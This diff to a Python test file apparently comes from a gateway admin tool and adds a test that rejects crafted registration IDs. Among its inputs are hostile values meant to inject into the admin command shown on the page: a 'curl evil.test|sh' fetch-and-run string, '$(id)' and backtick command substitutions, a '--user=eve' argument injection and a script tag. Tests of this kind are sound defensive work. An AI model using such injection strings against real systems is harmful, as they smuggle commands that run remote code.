@@ -450,8 +450,25 @@ async def test_without_a_provider_the_page_tells_what_an_administrator_types(mak
 
     scene = make_scene()
     scene.world.tailnet.config = msgspec.structs.replace(scene.world.tailnet.config, oidc=OidcSettings())
-    assert await scene.browser.open("GET", "/register/<script>") == 200
-    assert "gwctl auth approve &lt;script&gt;" in scene.browser.text
+    assert await scene.browser.open("GET", "/register/hskey-authreq-012345") == 200
+    assert "gwctl auth approve hskey-authreq-012345 --user NAME" in scene.browser.text
+    assert scene.browser.headers["x-frame-options"] == "DENY"
+
+
+@pytest.mark.parametrize("path", ["/register", "/auth"])
+@pytest.mark.parametrize(
+    "auth_id", ["<script>", "x;curl evil.test|sh", "$(id)", "--user=eve", "a b", "x" * 100, "`id`"]
+)
+async def test_an_address_does_not_choose_what_an_administrator_types(make_scene: Any, path: str, auth_id: str) -> None:
+    import msgspec
+
+    from gw.state.config import OidcSettings
+
+    scene = make_scene()
+    scene.world.tailnet.config = msgspec.structs.replace(scene.world.tailnet.config, oidc=OidcSettings())
+    assert await scene.browser.open("GET", f"{path}/{auth_id}") == 400
+    assert "gwctl" not in scene.browser.text
+    assert auth_id not in scene.browser.text
 
 
 async def ssh_check(scene: Any, source: Any) -> str:
